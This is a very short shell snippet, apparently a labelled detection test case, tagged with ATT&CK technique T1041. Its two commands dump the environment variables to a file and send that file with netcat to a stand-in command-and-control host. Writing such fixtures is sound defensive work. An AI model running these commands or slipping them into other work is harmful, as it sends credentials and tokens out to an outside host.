# expect: environment-sent-away | source: T1041
printenv > /tmp/e
nc c2.example.invalid 443 < /tmp/e
